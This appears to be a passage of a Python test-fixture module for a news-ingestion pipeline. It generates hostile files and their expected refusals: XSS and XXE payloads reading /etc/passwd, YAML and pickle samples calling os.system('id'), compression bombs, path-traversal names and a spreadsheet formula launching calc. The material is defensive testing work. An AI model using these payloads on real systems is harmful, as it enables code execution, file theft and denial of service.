"""Articles that a newsroom would not send: over 300 files, written from compact descriptions.

`CASES` lists them with what a run makes of each; `write` puts them into a folder. Bombs and large
files are made here and stored nowhere. With `CLAIMLINE_HOSTILE=full` in the environment the large
ones are as large as the project promises to take; else far smaller, to be quick.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import socket
import tarfile
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pyarrow
import pyarrow.parquet
import zstandard

FULL = os.environ.get("CLAIMLINE_HOSTILE") == "full"
MANY = 100_000 if FULL else 300
SENTENCE = "Ana Ruiz said on 4 May 2021 that rates may rise by 2030."
QUOTED = "“Rates may rise by 2030,” said Ana Ruiz in Łódź – on 4 May 2021."
# Long enough for its encoding to be told.
RUSSIAN = (
    "Президент сказал, что переговоры будут продолжены на следующей неделе в Женеве, "
    "а министр добавил, что цены могут вырасти. "
) * 4
CHINESE = "总统说，谈判将于下周在日内瓦继续进行，部长补充说，明年物价可能会上涨。" * 8
JAPANESE = (
    "大統領は、交渉は来週ジュネーブで続けられると述べ、大臣は来年物価が上がるかもしれないと付け加えた。"
    * 8
)


class Written(NamedTuple):
    """The article has records; with a `problem` record that says this, if it is said."""

    problem: str = ""


class Refused(NamedTuple):
    """The article is quarantined: for which reason, where, after how many attempts."""

    reason: str
    stage: str = "reading"
    attempts: int = 1


Outcome = Written | Refused


class Case(NamedTuple):
    """A file.

    Attributes:
        name: below the folder; the part before "/" is the group, which tests are about.
        make: writes it.
        outcomes: what becomes of the articles in it, in order; empty when it holds none.
    """

    name: str
    make: Callable[[Path], object]
    outcomes: tuple[Outcome, ...]


FINE = (Written(),)
REST = "from here on nothing was read"


def holding(data: bytes | str) -> Callable[[Path], object]:
    """What writes a file with this in it."""
    return lambda path: path.write_bytes(data.encode() if isinstance(data, str) else data)


def made(data: Callable[[], bytes | str]) -> Callable[[Path], object]:
    """What writes a file with something large in it, made only then."""
    return lambda path: holding(data())(path)


def refused(reason: str) -> tuple[Outcome, ...]:
    return (Refused(reason),)


def written(problem: str) -> tuple[Outcome, ...]:
    return (Written(problem),)


def encodings() -> Iterator[Case]:
    """Bytes in every usual encoding, in none, in two, and in another one than they say."""
    for encoding in ("utf-8", "utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"):
        text = f"\ufeff{QUOTED}".encode(encoding)
        yield Case(f"mark-{encoding}.txt", holding(text), FINE)
        yield Case(f"mark-{encoding}.html", holding(f"\ufeff<p>{QUOTED}".encode(encoding)), FINE)
        if encoding != "utf-8":
            reason = "UTF-16 without a byte order mark" if "16" in encoding else "NUL bytes"
            yield Case(f"bare-{encoding}.txt", holding(SENTENCE.encode(encoding)), refused(reason))
    yield Case("bare-utf-8.txt", holding(QUOTED), FINE)
    yield Case("utf-7.txt", holding(QUOTED.encode("utf-7")), FINE)  # plain ASCII to whoever reads
    western = f"{QUOTED} José’s café".replace("Łódź", "Málaga")
    doubt = "neither UTF-8 nor clearly any other encoding"
    guesses = {
        "cp1252": (western, written("read as cp1252")),
        "latin-1": (f"{SENTENCE} José was in Málaga.", written("read as cp1252")),
        "koi8-r": (RUSSIAN, written("read as koi8_r")),
        "cp1251": (RUSSIAN, refused(doubt)),
        "gb18030": (CHINESE, written("read as")),
        "big5": (
            "總統說，談判將於下週在日內瓦繼續進行，部長補充說，明年物價可能會上漲。" * 8,
            written("read as"),
        ),
        "shift_jis": (JAPANESE, written("read as cp932")),
        "euc_jp": (JAPANESE, written("read as")),
        "euc_kr": (
            "대통령은 다음 주 제네바에서 협상이 계속될 것이라고 말했다. " * 8,
            written("read as"),
        ),
        "cp1250": ("Wałęsa żółte łódki źródło " * 3, refused(doubt)),
        "cp037": (SENTENCE * 3, written("read as cp037")),
    }
    for encoding, (text, outcomes) in guesses.items():
        yield Case(f"guessed-{encoding}.txt", holding(text.encode(encoding)), outcomes)
    good = QUOTED.encode()
    broken = {
        "mixed-with-cp1252": good + "Málaga ".encode("cp1252") * 3,
        "mixed-with-utf-16": good + QUOTED.encode("utf-16-le"),
        "cut-in-a-character": good + b" \xe2\x82",
        "lone-continuation": good + b" \x80\xbf",
        "overlong-slash": good + b" \xc0\xaf..\xc0\xaf",
        "overlong-three": good + b" \xe0\x80\xaf",
        "overlong-nul": good + b" \xc0\x80",
        "surrogate": good + b" \xed\xa0\x80",
        "cesu-8-pair": good + b" \xed\xa0\xbd\xed\xb8\x80",
        "above-10ffff": good + b" \xf4\x90\x80\x80",
        "five-bytes": good + b" \xf8\x88\x80\x80\x80",
        "fe-ff-within": good + b" \xfe\xff \xff\xfe",
        "every-byte": bytes(range(1, 256)) * 4,
    }
    for name, data in broken.items():
        reason = "NUL bytes" if b"\x00" in data else doubt
        yield Case(f"broken-{name}.txt", holding(data), refused(reason))
    marked = {
        "utf-8": b"\xef\xbb\xbfcaf\xe9",
        "utf-16-odd": b"\xff\xfea\x00b",
        "utf-16-lone": b"\xff\xfea\x00\x00\xd8b\x00",
        "utf-32-beyond": b"\xff\xfe\x00\x00\x00\x00\x11\x00",
        "utf-32-odd": b"\xff\xfe\x00\x00a\x00\x00",
    }
    for name, data in marked.items():
        yield Case(f"mark-lies-{name}.txt", holding(data), refused("is not valid"))
    yield Case("mark-twice.txt", holding(f"\ufeff\ufeff{SENTENCE}"), FINE)
    yield Case("mark-within.txt", holding(f"{SENTENCE} \ufeffIt may r\ufeffain."), FINE)
    for name in ("utf-8", "ascii", "utf-16", "utf-16le", "utf-32", "utf-7", "none-such", "idna",
                 "rot13", "zlib", "hex", "punycode", "unicode_escape", "raw_unicode_escape",
                 "undefined", "cp037", "x" * 40, "../../etc/passwd"):  # fmt: skip
        page = f"<html><meta charset={name}><p>{western}".encode("cp1252")
        # On the web "ascii" has always been Windows-1252.
        yield Case(
            f"says-{name.replace('/', '∕')}.html",
            holding(page),
            written("" if name == "ascii" else "read as cp1252"),
        )
        page = f"<html><meta charset={name}><p>{QUOTED}".encode()
        yield Case(f"says-{name.replace('/', '∕')}-is-utf-8.html", holding(page), FINE)
    polish = "<html><meta charset=iso-8859-2><p>Wałęsa may speak in Łódź."
    yield Case("says-iso-8859-2.html", holding(polish.encode("iso-8859-2")), FINE)
    late = b"<html>" + b" " * 5000 + polish.encode("iso-8859-2")
    yield Case("says-late.html", holding(late), refused(doubt))


def characters() -> Iterator[Case]:
    """Every control, and what else shows as nothing or as something else."""
    for code in (*range(1, 0x20), 0x7F):
        text = f"{SENTENCE} It may{chr(code)}rain, Ana{chr(code)} said."
        yield Case(f"c0-{code:02x}.txt", holding(text), FINE)
    for code in range(0x80, 0xA0):
        text = f"{SENTENCE} It may{chr(code)}rain, Ana{chr(code)} said."
        outcome = FINE if code == 0x85 else written("are read as Windows-1252")
        yield Case(f"c1-{code:02x}.txt", holding(text), outcome)
    yield Case("nul.txt", holding(f"{SENTENCE}\0 It may rain."), refused("NUL bytes"))
    yield Case("nul.html", holding(f"<p>{SENTENCE}\0 It may rain."), refused("NUL bytes"))
    yield Case("nul-utf-16.txt", holding(f"\ufeff{SENTENCE}\0".encode("utf-16-le")),
               refused("NUL characters"))  # fmt: skip
    entities = "".join(f"&#{code};&#x{code:x};" for code in (0, 8, 27, 0x80, 0x9F, 0xD800, 0xDFFF))
    entities += "&#1114112;&#xffffffff;&#99999999999;&#-1;&#xfdd0;&#xffff;&nosuch;&amp;amp;lt;b&gt;"
    yield Case("entities.html", holding(f"<p>{SENTENCE} It{entities}may rain.<p>{entities}"), FINE)
    yield Case("entities.md", holding(f"{SENTENCE} It{entities}may rain.\n\n{entities}"), FINE)
    zalgo = "".join(c + "\u0301\u0316\u20dd" * 20 for c in "rates")
    spans = {
        "right-to-left": "\u202eesir yam setaR\u202c \u2067It may rain\u2069, \u061cAna said.",
        "joiners": "It m\u200day r\u200cain, A\u200bna Ru\u2060iz said; B\u00adr\u00aduno too.",
        "zalgo": f"Ana said {zalgo} may {zalgo} rise.",
        "only-marks": "\u0301\u0316 " * 50,
        "emoji": "👩‍👩‍👧‍👦 said 🏴󠁧󠁢󠁥󠁮󠁧󠁿 may win 👍🏿, 🇵🇱🇵 and ❤️ say. #️⃣1️⃣",
        "nfc": unicodedata.normalize("NFC", "Mária Łódź said Ångström may win."),
        "nfd": unicodedata.normalize("NFD", "Mária Łódź said Ångström may win."),
        "nfkc": "Ａｎａ Ｒｕｉｚ ﬁnally said on ４ Ｍａｙ ２０２１ it may rise ½ ㎏ Ⅷ ſoon.",
        "private": "\ue000\uf8ff\U000f0000\U0010fffd may rain.",
        "noncharacters": "\ufdd0\ufffe\uffff\U0001ffff\U0010ffff may rain, Ana said.",
        "tags": "It \U000e0001\U000e0074\U000e007f may rain.",
        "homoglyphs": "Аna Ruіz said; Ana Ruiz said; Αna Ruiz said it may rain.",
        "separators": "It may rain.\u2028Ana said.\u2029Bo said.\x85Cy said.\u00a0Di\u3000said.",
        "tabs": "\tIt\tmay\train,\tAna\tsaid.\v\fBo\vsaid\fso.",
        "fillers": "\u3164\u115f\u1160\u2800 may \u3164 rain.",
        "variation": "A\ufe0fn\ufe0fa may\U000e0100 rain.",
        "digits": "On ٤ May ٢٠٢١, on ४ May २०२१, 𝟒 𝐌𝐚𝐲 𝟐𝟎𝟐𝟏, ④ May ²⁰²¹ it may rain.",
        "replacement": "\ufffd\ufffd may \ufffd rain.",
        "bidi-names": "שרה אמרה May rain 2030, محمد said “it may rain”.",
        "escapes": "\\u0041 \\x00 %00 \\ud800 &#27; \\033[31m \\n may rain.",
        "bell": "\x07\x08\x08\x08 may \x08rain.",
    }
    for name, text in spans.items():
        for suffix in (".txt", ".md", ".html"):
            yield Case(f"{name}{suffix}", holding(f"{SENTENCE} {text}\n\n{text}"), FINE)
    link = "\x1b]8;;https://x.example\x1b\\Ana\x1b]8;;\x1b\\"
    ansi = f"\x1b[31mIt may\x1b[0m rain\x1b]0;owned\x07, {link} said.\x9b31m"
    yield Case("terminal.txt", holding(f"Head \x1b[2J\n\n{SENTENCE} {ansi}"),
               written("are read as Windows-1252"))  # fmt: skip


def sizes() -> Iterator[Case]:
    """Nothing, too much, and all of it in one line."""
    empty = {
        "none": b"", "spaces": b"   ", "lines": b"\n\r\n\r\t\n", "mark": b"\xef\xbb\xbf",
        "mark-utf-16": b"\xff\xfe", "feeds": b"\f\f\v", "u2028": "\u2028\u2029\x85".encode(),
        "zero-width": "\u200b\u2060\ufeff".encode(), "controls": b"\x01\x02\x1b",
        "nbsp": b"\xc2\xa0",
    }  # fmt: skip
    for name, data in empty.items():
        yield Case(f"empty-{name}.txt", holding(data), refused("it holds no text"))
        yield Case(f"empty-{name}.md", holding(data), refused("it holds no text"))
        yield Case(f"empty-{name}.html", holding(data), refused("it holds no text"))
    yield Case("only-tags.html", holding("<html><head></head><body><div></div></body></html>"),
               refused("it holds no text"))  # fmt: skip
    yield Case(
        "only-rules.md", holding("---\n\n***\n\n```\ncode\n```\n"), refused("it holds no text")
    )
    yield Case("one-letter.txt", holding("a"), FINE)
    yield Case("no-newline.txt", holding(SENTENCE), FINE)
    yield Case("crs.txt", holding(SENTENCE + "\r" + SENTENCE + "\r\r" + SENTENCE), FINE)
    yield Case("mixed-ends.txt", holding(f"{SENTENCE}\r\n{SENTENCE}\n\r{SENTENCE}\r\r\n"), FINE)
    yield Case("feeds.txt", holding(f"{SENTENCE}\f{SENTENCE}\f\f\v{SENTENCE}"), FINE)
    yield Case("one-line.txt", made(lambda: f"{SENTENCE} " * (MANY // 50)), FINE)
    yield Case("newlines.txt", made(lambda: SENTENCE + "\n" * (50 * MANY) + SENTENCE), FINE)
    yield Case("spaces.txt", made(lambda: SENTENCE + " " * (50 * MANY) + SENTENCE), FINE)
    yield Case("short-lines.txt", made(lambda: "a\n" * MANY), FINE)
    yield Case("long-word.txt", made(lambda: "a" * (10 * MANY)), FINE)
    yield Case("long-digits.txt", made(lambda: "1" * (10 * MANY) + " may rise."), FINE)
    yield Case("dots.txt", made(lambda: "." * (10 * MANY)), refused("it holds no text"))
    yield Case("over-64-mb.txt", _sparse, refused("larger than 64 MB"))


def _sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate((64 << 20) + 1)


def _member(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def _zip(name: str, data: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(name), data)
    return file.getvalue()


def _tar() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        entry = tarfile.TarInfo("../../etc/passwd")
        entry.size = len(SENTENCE)
        archive.addfile(entry, io.BytesIO(SENTENCE.encode()))
    return file.getvalue()


def _bomb() -> bytes:
    """100 MB of blanks, in members of one file, as a disk would be filled."""
    return _member(b" " * (10 << 20)) * 10


def packed() -> Iterator[Case]:
    """Packed files that are damaged, no such files, or made to fill memory and disk."""
    text = f"{SENTENCE}\n".encode()
    noise = zlib.compress(b"")  # header of another format
    zst = zstandard.ZstdCompressor().compress
    yield Case("plain.txt.gz", holding(_member(text)), FINE)
    yield Case("members.txt.gz", holding(_member(text) * 3), FINE)
    yield Case("empty-members.txt.gz", holding(_member(b"") * 1000 + _member(text)), FINE)
    yield Case("zeros-behind.txt.gz", holding(_member(text) + bytes(100)), FINE)
    yield Case("noise-behind.txt.gz", holding(_member(text) + b"noise"), refused("BadGzipFile"))
    yield Case("cut.txt.gz", holding(_member(text)[:-9]), refused("EOFError"))
    yield Case("cut-head.txt.gz", holding(_member(text)[:5]), refused("EOFError"))
    yield Case("empty.txt.gz", holding(b""), refused("it holds no text"))
    yield Case("wrong-sum.txt.gz", holding(_member(text)[:-8] + bytes(8)), refused("CRC"))
    yield Case("no-gz.txt.gz", holding(text), refused("BadGzipFile"))
    yield Case("zlib.txt.gz", holding(noise + text), refused("BadGzipFile"))
    yield Case("zst-inside.txt.gz", holding(_member(zst(text))), refused("NUL bytes"))
    yield Case("gz-inside.txt.gz", holding(_member(_member(text))), refused("NUL bytes"))
    yield Case(
        "name.txt.gz",
        holding(b"\x1f\x8b\x08\x08" + bytes(6) + b"../../etc/passwd\0" + _member(text)[10:]),
        FINE,
    )
    yield Case("bomb.txt.gz", made(_bomb), refused("as no text does"))
    yield Case("bomb.jsonl.gz", made(_bomb), refused("as no text does"))
    yield Case("bomb.warc.gz", made(_bomb), refused("head of a record is longer"))
    yield Case("bomb-of-bombs.txt.gz", made(lambda: _member(_bomb())), refused("NUL bytes"))
    yield Case("plain.txt.zst", holding(zst(text)), FINE)
    yield Case("frames.txt.zst", holding(zst(text) * 3), FINE)
    yield Case("cut.txt.zst", holding(zst(text)[:-5]), refused("EOFError"))
    yield Case("no-zst.txt.zst", holding(text), refused("ZstdError"))
    yield Case("noise-behind.txt.zst", holding(zst(text) + b"noise"), refused("ZstdError"))
    yield Case("bomb.txt.zst", made(lambda: zst(b" " * (100 << 20))), refused("as no text does"))
    yield Case(
        "window.txt.zst", holding(b"\x28\xb5\x2f\xfd\x00\xf8" + bytes(9)), refused("ZstdError")
    )
    yield Case("zip.txt", holding(_zip("../../etc/passwd", text)), refused("NUL bytes"))
    yield Case("zip-bomb.html", made(lambda: _zip("a", bytes(10 << 20))), refused("NUL bytes"))
    yield Case("gz.txt", holding(_member(text)), refused("NUL bytes"))
    yield Case("zst.txt", holding(zst(text)), refused("NUL bytes"))
    yield Case("tar.txt", made(_tar), refused("NUL bytes"))
    yield Case(
        "pdf.txt",
        holding(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\nstream\0\xff"),
        refused("NUL bytes"),
    )
    yield Case("png.html", holding(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"), refused("NUL bytes"))
    yield Case("elf.md", holding(b"\x7fELF\x02\x01\x01" + bytes(9)), refused("save it as UTF-8"))
    yield Case("pickle.txt", holding(b"\x80\x04\x95cos\nsystem\n(S'id'\ntR."), refused("neither"))


def pages() -> Iterator[Case]:
    """HTML that is deep, endless, unclosed, or that would do something."""
    text = f"<p>{SENTENCE}</p>"
    evil = {
        "xxe": f'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>{text}<p>&x; may rain.',
        "entity-bomb": "<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol 'lol'>"
        + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1 or str()};" * 10}">' for n in range(1, 10))
        + f"]><html>{text}<p>&lol9; may rain.</html>",
        "parameter-entity": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://x.example/e"> %p;]>{text}',
        "instructions": f"<?php system('id') ?><?xml-stylesheet href='x'?>{text}<? rain",
        "cdata": f"{text}<![CDATA[ <p>It may rain. ]]> <svg><![CDATA[<p>Ana said.]]></svg>",
        "conditional": f"<!--[if IE]><p>It may rain.<![endif]-->{text}<![if !IE]><p>Ana said so.",
        "script": f"{text}<script>a('<p>It may rain.')</script><script><!--<script></script>-->",
        "script-unclosed": f"{text}<script>It may rain.",
        "style": f"{text}<style>p:after{{content:'It may rain.'}}</style>",
        "textarea": f"{text}<textarea></p><script>alert(1)</script></textarea>",
        "title-script": f"<title><script>alert(1)</script>Rain</title>{text}",
        "noscript": f"<noscript><p title='</noscript><img src=x onerror=a()>'></noscript>{text}",
        "svg": f"<svg onload=alert(1)><text>It may rain.</text></svg>{text}",
        "math": f"<math><mtext><table><mglyph><style><img src onerror=alert(1)></style>{text}",
        "template": f"<template><p>It may rain.</template>{text}",
        "plaintext": f"{text}<plaintext><p>It may rain.</p>",
        "refresh": f'<meta http-equiv=refresh content="0;url=javascript:alert(1)">{text}',
        "base": f'<base href="javascript:/a/"><base href=//x.example>{text}<a href=b>Ana.</a>',
        "links": f'{text}<a href=" java\nscript:alert(1)">It</a> <a href="data:,x">may</a> rain.',
        "events": f"<p onclick=alert(1) style='background:url(javascript:x)'>{SENTENCE}",
        "quoted-tag": f'<p title="</p><script>">{SENTENCE}</p>',
        "unclosed": f"<div><p><b><i><a href=x><table><tr><td>{SENTENCE}<ul><li>It may rain",
        "closed-only": f"</div></p></b>{SENTENCE}</html></body></p>It may rain.",
        "tag-unclosed": f"{text}<p class='",
        "comment-unclosed": f"{text}<!-- It may rain.",
        "misnested": f"<b><p>{SENTENCE}</b><i></p>It may rain.</i></table></td>",
        "frames": f"<iframe src=javascript:alert(1)><p>No.</iframe><object data=x>{text}</object>",
        "form": f"<form action=//x.example><input value='It may.'><button>Go</button></form>{text}",
        "hidden": f"<p hidden>It may rain.<p style=display:none>Bo said so.</p>{text}",
        "lt": f"{text}<p>1 < 2 <3 <> </> <!> <?> &lt;b&gt; may rain.",
        "nulls": f"<scr\ufffdipt>alert(1)</script>{text}",
        "names": f"<p\x01x:y-z='1'>{SENTENCE}</p><a/b/c=d><{'x' * 300}>",
        "meta": "<meta name=author content='<img src=x onerror=alert(1)>'>"
        f"<meta property=og:title content='=cmd()|x'><meta name=date content='9999-99-99'>{text}",
        "language": f"<html lang='{'x' * 5000}'>{text}",
    }  # fmt: skip
    for name, page in evil.items():
        lost = "tag" in name and "unclosed" in name
        hidden = name in ("math", "frames")  # all of it is in an element that shows no text
        outcomes = refused("it holds no text") if hidden else written("never ends" if lost else "")
        yield Case(f"{name}.html", holding(page), outcomes)
    json_ld = {
        "deep": "[" * 50_000,
        "nan": '{"@type":"Article","headline":NaN,"datePublished":1e999,"author":[[[1]]]}',
        "long": '{"@type":"Article","headline":"' + "x" * 50_000 + '"}',
        "surrogate": '{"@type":"Article","headline":"\\ud800 rain"}',
        "huge": '{"@type":"Article","dateCreated":' + "9" * 5000 + "}",
        "many": json.dumps([{"@graph": []}] * 2000),
        "script": '{"@type":"Article","headline":"</scr" + "ipt>"}',
    }
    for name, data in json_ld.items():
        page = f"<script type=application/ld+json>{data}</script>{text}"
        yield Case(f"json-ld-{name}.html", holding(page), FINE)
    large = {
        "deep-div": lambda: "<div>" * MANY + text,
        "deep-closed": lambda: "<div>" * MANY + text + "</div>" * MANY,
        "deep-inline": lambda: "<b><i>" * MANY + text,
        "deep-table": lambda: "<table><tr><td>" * MANY + text,
        "deep-list": lambda: "<ul><li>" * MANY + text,
        "deep-quote": lambda: "<blockquote>" * MANY + text,
        "ends": lambda: "</div></p></b>" * MANY + text,
        "attributes": lambda: f"<p {' '.join(f'a{n}=x' for n in range(MANY))}>{SENTENCE}",
        "attribute": lambda: f"<p title='{'x' * (10 * MANY)}'>{SENTENCE}",
        "attribute-unclosed": lambda: f"{text}<p title='{'x' * (10 * MANY)}",
        "name": lambda: f"<{'x' * (10 * MANY)}>{text}",
        "less-than": lambda: text + "<" * (10 * MANY),
        "ampersands": lambda: f"{text}<p>" + "&" * MANY + "&amp" * MANY,
        "comments": lambda: "<!--" * MANY + "-->" + text,
        "comment-ends": lambda: text + "<!-- -- > --" * MANY,
        "scripts": lambda: "<script></script" * MANY + "</script>" + text,
        "brs": lambda: f"<p>{SENTENCE}" + "<br>" * (10 * MANY) + SENTENCE,
        "sups": lambda: f"<p>{SENTENCE}" + "<sup>[1]</sup>" * MANY,
        "metas": lambda: "<meta name=author content=Ana>" * MANY + text,
        "styled": lambda: f"<p style='{'display:none;' * MANY}x'>It may rain.</p>{text}",
    }
    for name, page_of in large.items():
        lost = name == "attribute-unclosed"
        yield Case(f"{name}.html", made(page_of), written("never ends") if lost else FINE)


def markdown() -> Iterator[Case]:
    """Markdown that is deep, that links, and front matter that would do something."""
    large = {
        "deep-quote": lambda: "> " * MANY + SENTENCE,
        "deep-quote-lines": lambda: "".join(f"{'> ' * n}It may rain.\n" for n in range(150)),
        "deep-list": lambda: "".join(f"{'  ' * n}- It may rain.\n" for n in range(150)),
        "deep-one-line-list": lambda: "- " * MANY + SENTENCE,
        "deep-brackets": lambda: "[" * MANY + SENTENCE + "]" * MANY,
        "open-links": lambda: SENTENCE + "[a](" * MANY,
        "open-images": lambda: SENTENCE + "![[" * MANY,
        "stars": lambda: SENTENCE + " **a *b" * MANY,
        "underscores": lambda: SENTENCE + "_" * (10 * MANY) + " a",
        "ticks": lambda: SENTENCE + "".join(f" {'`' * (n % 9 + 1)}a" for n in range(MANY)),
        "angles": lambda: SENTENCE + "<a@b." * MANY,
        "less-than": lambda: SENTENCE + "<" * (10 * MANY),
        "references": lambda: SENTENCE + "\n\n" + "[a]: <b> 'c'\n" * MANY + "\n[a][a]",
        "footnotes": lambda: (
            f"{SENTENCE}[^1]\n\n[^1]: See [^2].\n[^2]: See [^1].\n" + "[^1]" * MANY
        ),
        "table": lambda: SENTENCE + "\n\n" + "|a" * MANY + "\n" + "|-" * MANY + "\n|b|",
        "headings": lambda: "# It may rain\n" * MANY,
        "rules": lambda: SENTENCE + "\n\n" + "---\n" * MANY,
        "fences": lambda: SENTENCE + "\n\n" + "```\n" * (MANY + 1),
        "entities": lambda: SENTENCE + "&#0;&lt;&x;" * MANY,
        "html": lambda: SENTENCE + "\n\n" + "<div><b>" * MANY,
        "backslashes": lambda: SENTENCE + "\\" * (10 * MANY),
        "emphasis-ends": lambda: "a**b" * MANY + " " + SENTENCE,
    }
    for name, text_of in large.items():
        yield Case(f"{name}.md", made(text_of), FINE)
    small = {
        "script": f"{SENTENCE}\n\n<script>alert(1)</script>\n\n<img src=x onerror=a()> may rain.",
        "links": f"{SENTENCE} [It](javascript:alert(1)) [may](<java\nscript:x>) [rain](data:,x).",
        "autolinks": f"{SENTENCE} <javascript:alert(1)> <https://x.example/?a=<b>> may rain.",
        "image": f"{SENTENCE} ![It may rain](javascript:alert(1) '\"><script>')",
        "reference-loop": f"{SENTENCE}\n\n[a]: [b]\n[b]: [a]\n\n[a] may rain.",
        "wiki": f"{SENTENCE} [[../../etc/passwd]] {{{{include}}}} may rain.",
        "latex": f"{SENTENCE} $\\input{{/etc/passwd}}$ may rain.",
    }
    for name, text in small.items():
        yield Case(f"{name}.md", holding(text), FINE)


def front_matter() -> Iterator[Case]:
    """YAML that would run, grow without end, or say nonsense."""
    laughs = "a: &a0 [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"b{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12)
    )
    merges = "m0: &m0 {k: v}\n" + "".join(
        f"m{n}: &m{n} {{<<: [{','.join([f'*m{n - 1}'] * 9)}]}}\n" for n in range(1, 12)
    )
    fronts: dict[str, tuple[str, str]] = {
        "laughs": (laughs + "title: Rain", ""),
        "laughs-date": (laughs + "date: *a11", "states no date"),
        "laughs-author": (laughs + "author: *a11", ""),
        "merges": (merges + "title: Rain", ""),
        "alias-to-itself": ("author: &a [*a]", ""),
        "date-is-itself": ("date: &a [*a]", "states no date"),
        "unknown-alias": ("title: *none", "no YAML"),
        "python-apply": ("title: !!python/object/apply:os.system ['id']", ""),
        "python-name": ("date: !!python/name:os.system", ""),
        "custom-tag": ("title: !x Rain", ""),
        "huge-int": (f"date: {'9' * 5000}", "states no date"),
        "huge-hex": (f"date: 0x{'f' * 9000}", "states no date"),
        "huge-hex-key": (f"0x{'f' * 9000}: x", ""),
        "sexagesimal": (f"date: 1{':59' * 5000}", "states no date"),
        "duplicate-keys": ("title: Rain\ntitle: Snow", ""),
        "list-key": ("? [a, b]\n: c", ""),
        "map-key": ("? {a: b}\n: c", ""),
        "bad-timestamp": ("date: !!timestamp soon", "states no date"),
        "bad-int": ("date: !!int soon", "states no date"),
        "bad-bool": ("title: !!bool soon", ""),
        "bad-binary": ("title: !!binary '\\xff'", ""),
        "bad-float": ("date: !!float soon", "states no date"),
        "day-that-is-none": ("date: 2021-02-30", "states no date"),
        "zone-before-time": ("date: 0001-01-01T00:00:00+23:59", ""),
        "nan": ("date: .nan", "states no date"),
        "null": ("title: ~\ndate:\nauthor: [~, '']", ""),
        "set": ("title: !!set {a, b}\nauthor: !!set {Ana, Bo}", ""),
        "deep": ("x: " + "[" * 1500, "no YAML"),
        "deep-maps": ("x: " + "{a: " * 1500 + "b" + "}" * 1500, "no YAML"),
        "tabs": ("title:\tRain\n\tx: y", "no YAML"),
        "controls": ("title: a\x07b", "no YAML"),
        "directive": ("%YAML 9.9\n%TAG ! tag:x,2000:", "no YAML"),
        "block": ("title: |\n  Rain\n  may\ndescription: >-\n  Snow\n  will", ""),
        "escapes": ('title: "Rain \\x1b[31m \\ud800 \\U0010ffff"', ""),
        "formula": ("title: =cmd|'/c calc'!A0\nauthor: '@SUM(1)'", ""),
        "markup": ("title: <script>alert(1)</script>\nauthor: <img src=x onerror=alert(1)>", ""),
        "long-title": (f"title: {'Rain ' * 10_000}", ""),
        "many-keys": ("".join(f"k{n}: v\n" for n in range(5000)), ""),
        "many-authors": ("author: [" + "Ana Ruiz, " * 5000 + "]", ""),
        "authors-nested": ("author: [{name: {name: Ana}}, [Bo], 3, 2021-01-01]", ""),
    }
    for name, (front, problem) in fronts.items():
        text = f"---\n{front}\n---\n\n{SENTENCE}\n"
        yield Case(f"{name}.md", holding(text), written(problem))
    yield Case("unclosed.md", holding(f"---\ntitle: Rain\n\n{SENTENCE}"), FINE)
    yield Case(
        "twice.md", holding(f"---\ntitle: Rain\n---\n---\ntitle: Snow\n---\n{SENTENCE}"), FINE
    )
    yield Case("alone.md", holding("---\ntitle: ~\n---\n"), refused("it holds no text"))
    yield Case("long.md", made(lambda: f"---\n{'#' * 70_000}\n---\n{SENTENCE}"), FINE)


def sidecars() -> Iterator[Case]:
    """Broken statements beside an article that is fine."""
    sidecar: dict[str, tuple[bytes | str | Callable[[Path], object], str]] = {
        "empty": ("", "correct or remove it"),
        "half": ('{"title": "Rain', "correct or remove it"),
        "list": ("[]", "Expected `object`"),
        "null": ("null", "Expected `object`"),
        "deep": ('{"source": ' + "[" * 100_000, "correct or remove it"),
        "deep-closed": (
            '{"source": ' + "[" * 100_000 + "]" * 100_000 + "}",
            "correct or remove it",
        ),
        "nan": ('{"title": NaN}', "correct or remove it"),
        "huge-int": ('{"published": ' + "9" * 5000 + "}", "correct or remove it"),
        "huge-float": ('{"title": 1e999}', "correct or remove it"),
        "types": ('{"authors": "Ana"}', "Expected `array"),
        "types-in-list": ('{"authors": ["Ana", 3]}', "Expected `str`"),
        "surrogate": ('{"title": "\\ud800"}', "correct or remove it"),
        "latin-1": (b'{"title": "caf\xe9"}', "correct or remove it"),
        "mark": ('\ufeff{"title": "Rain"}', "correct or remove it"),
        "utf-16": ('{"title": "Rain"}'.encode("utf-16"), "correct or remove it"),
        "no-date": ('{"published": "2021-02-30"}', "is no date"),
        "long-date": ('{"published": "' + "1" * 100_000 + '"}', "is no date"),
        "trailing": ('{"title": "Rain"} x', "correct or remove it"),
        "comment": ('{"title": "Rain" /* x */}', "correct or remove it"),
        "duplicate": ('{"title": "Rain", "title": "Snow"}', ""),
        "markup": ('{"title": "<script>alert(1)</script>", "authors": ["=1+1"]}', ""),
        "escapes": ('{"title": "a\\u001b[31m\\u0000b\\u202e", "publisher": "\\u0007"}', ""),
        "long": ('{"title": "' + "Rain " * 20_000 + '"}', ""),
        "traversal": ('{"title": "../../etc/passwd", "id": "../x", "path": "/etc"}', ""),
        "other-language": ('{"language": "pl-PL"}', "only English"),
        "directory": (lambda path: path.mkdir(), "a directory"),
        "pipe": (lambda path: os.mkfifo(path), "a named pipe"),
        "dangling": (lambda path: path.symlink_to("none"), "no such file"),
        "outside": (lambda path: path.symlink_to(_outside(path)), "outside of"),
        "loop": (lambda path: path.symlink_to(path), "a loop of symbolic links"),
        "large": (_sparse, "larger than 64 MB"),
    }
    for name, (beside, reason) in sidecar.items():
        make = beside if callable(beside) else holding(beside)
        fine = not reason or reason == "only English"
        yield Case(f"{name}.txt", _with_sidecar(make), written(reason) if fine else refused(reason))


